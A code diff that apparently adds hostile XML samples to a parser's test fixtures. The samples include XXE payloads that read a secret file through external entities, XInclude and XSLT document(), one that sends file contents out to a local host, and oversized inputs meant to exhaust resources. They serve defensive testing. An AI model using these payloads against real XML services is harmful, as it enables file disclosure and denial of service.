@@ -54,6 +54,29 @@ DOCUMENTS = {
     "an encoding there is not": '<?xml version="1.0" encoding="nonsense"?><a/>',
     "a zero in the middle": "<a>\x00</a>",
     "nothing": "",
+    "an inclusion with a way out": '<a xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="http://127.0.0.1:9/"><i:fallback>'
+    '<i:include href="{secret}" parse="text"/></i:fallback></i:include></a>',
+    "a parameter entity that sends": '<!DOCTYPE a [<!ENTITY % f SYSTEM "{secret}"><!ENTITY % e "<!ENTITY &#x25; s SYSTEM '
+    "'http://127.0.0.1:9/?%f;'>\">%e;%s;]><a/>",
+    "an entity in the name of a file": '<!DOCTYPE a [<!ENTITY x "y"><!ENTITY z SYSTEM "{secret}&x;">]><a>&z;</a>',
+    "a notation": '<!DOCTYPE a [<!NOTATION n SYSTEM "{secret}"><!ENTITY x SYSTEM "{secret}" NDATA n>]><a/>',
+    "a document type in small letters": "<!doctype a><a/>",
+    "a document type behind a remark": '<!-- x --><!DOCTYPE a [<!ENTITY x SYSTEM "{secret}">]><a>&x;</a>',
+    "a style sheet that reads": '<s:stylesheet version="1.0" xmlns:s="http://www.w3.org/1999/XSL/Transform">'
+    "<s:template match='/'><s:copy-of select=\"document('{secret}')\"/></s:template></s:stylesheet>",
+    "a base elsewhere": '<a xml:base="{secret}" href="x"/>',
+    "namespaces without end": "<a " + " ".join(f'xmlns:n{n}="u{n}"' for n in range(20_000)) + "/>",
+    "remarks without end": "<a>" + "<!-- x -->" * 300_000 + "</a>",
+    "a remark without end": f"<a><!--{'x' * 4_500_000}--></a>",
+    "a section without end": f"<a><![CDATA[{'x' * 4_500_000}]]></a>",
+    "instructions without end": "<a>" + "<?x y?>" * 300_000 + "</a>",
+    "a character there is not": "<a>&#xFFFFFF;</a>",
+    "a character that stands for nothing": "<a>&#0;</a>",
+    "an entity of nobody": "<a>&nobody;</a>",
+    "two roots": "<a/><b/>",
+    "attributes twice": '<a b="1" b="2"/>',
+    "one id for all": "<a>" + '<b id="x"/>' * 50_000 + "</a>",
+    "seven bits": "+ADw-a+AD4-",
 }
 
 
